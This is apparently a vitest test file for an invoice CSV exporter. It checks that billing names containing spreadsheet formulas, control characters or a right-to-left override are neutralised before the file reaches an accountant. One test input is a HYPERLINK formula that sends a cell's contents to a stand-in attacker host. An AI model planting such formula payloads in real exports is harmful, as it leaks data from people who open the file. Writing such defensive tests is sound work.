import { eq, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { createPackage, createSignedInUser } from "../../test/factories.ts";
import { createBuyingApp, orderBody, placeTestOrder, pressButton } from "../orders/buying.test-kit.ts";
import { orders } from "../orders/orders.schema.ts";
import { exportInvoicesCsv } from "./invoices-export.ts";

// The accountant opens this file in a spreadsheet: a billing name must never run there as a formula (OWASP, CSV
// injection), while the amounts stay numbers.

const testApp = await createBuyingApp();
const plan = await createPackage(testApp, { retailDzdMinor: 1490_00, retailUsdMinor: 11_04 });

/** A paid order billed to that name, its invoice issued today. */
async function payBilledTo(name: string) {
  const buyer = await createSignedInUser(testApp);
  const body = orderBody(buyer.user, plan.id);
  const placed = await placeTestOrder(testApp, buyer.headers, {
    ...body,
    billing: { ...(body.billing as object), name },
  });
  await pressButton(testApp, placed.checkoutUrl, "pay");
  return placed;
}

/** The CSV's cells, row by row (RFC 4180: quoted cells, doubled quotes), without the BOM. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let isQuoted = false;
  const text = csv.replace(/^\uFEFF/, "");
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (isQuoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') isQuoted = false;
      else cell += char;
    } else if (char === '"') isQuoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[index + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      index++;
    } else cell += char;
  }
  return rows;
}

const today = () => new Intl.DateTimeFormat("en-CA", { timeZone: "Africa/Algiers" }).format(testApp.clock.now());

describe("exportInvoicesCsv", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
    ["+1+1"],
    ["-2+3"],
    ["@SUM(1,1)"],
    ["\uFF1D1+1"],
    ["Karim;=1+1"],
  ])("writes the billing name %j as text a spreadsheet does not run", async (name) => {
    const placed = await payBilledTo(name);

    const { csv } = await exportInvoicesCsv(testApp.deps, { from: today(), to: today() });

    const row = parseCsv(csv).find((cells) => cells[4] === placed.number)!;
    expect(row[5]).toBe(name.startsWith("Karim") ? "Karim;'=1+1" : `'${name}`);
    // The amounts are still numbers.
    expect(row.slice(8, 11)).toEqual(["1252.10", "237.90", "1490.00"]);
  });

  it.each([
    ["\t=1+1", "' =1+1"],
    ["\r=1+1", "' =1+1"],
    ["   =1+1", "'   =1+1"],
    ["Bob\u202Egnp.exe", "Bobgnp.exe"],
  ])("defuses the older stored billing name %j as %j", async (stored, written) => {
    const placed = await payBilledTo("Placeholder Name");
    // Stored before names were checked (decision 060): the contract refuses these today.
    await testApp.db
      .update(orders)
      .set({ billing: sql`jsonb_set(${orders.billing}, '{name}', to_jsonb(${stored}::text))` })
      .where(eq(orders.id, placed.orderId));

    const { csv } = await exportInvoicesCsv(testApp.deps, { from: today(), to: today() });

    const row = parseCsv(csv).find((cells) => cells[4] === placed.number)!;
    expect(row[5]).toBe(written);
  });
});
